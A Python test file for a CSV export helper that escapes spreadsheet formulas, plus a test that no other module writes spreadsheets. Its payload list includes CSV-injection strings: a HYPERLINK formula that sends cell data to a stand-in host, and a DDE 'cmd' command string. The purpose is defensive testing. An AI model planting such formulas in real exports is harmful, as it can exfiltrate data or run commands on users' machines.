"""Who puts a formula where somebody will export it, and what the spreadsheet gets: text."""

import ast
import csv
import io
from pathlib import Path

import pytest

from nrm.spreadsheets import as_csv

ROOT = Path(__file__).resolve().parents[2]
ROOMS = ("nrm", "identities", "cases", "screening", "protection", "exchange", "reporting")
FORMULAS = [
    '=HYPERLINK("http://far.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠a",  # noqa: RUF001
    "|calc",
    "%0A=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_a_csv_cell_is_text_in_every_column(formula):
    text = as_csv([(formula, 'safe, "quoted"', 12), ("a", formula, None)])
    first, second = csv.reader(io.StringIO(text, newline=""))
    assert first == [f"'{formula}", 'safe, "quoted"', "12"]
    assert second == ["a", f"'{formula}", ""]


def test_what_is_no_formula_stays_as_it_is():
    rows = [("Adult", "[c]", -5, 0, "12-17", "a=b", "")]
    assert as_csv(rows) == "Adult,[c],-5,0,12-17,a=b,\r\n"


def test_no_export_writes_csv_or_spreadsheets_past_the_one_that_escapes():
    writers = {"csv", "openpyxl", "xlsxwriter", "odf", "tablib"}
    found = []
    for room in ROOMS:
        for path in (ROOT / room).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
                names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
                found += [str(path.relative_to(ROOT)) for n in names if n.split(".")[0] in writers]
    reads = "exchange/registers/reading.py"
    assert sorted(found) == [reads, "nrm/spreadsheets.py"]
    text = (ROOT / reads).read_text()
    assert not [name for name in ("csv.writer", "DictWriter") if name in text]
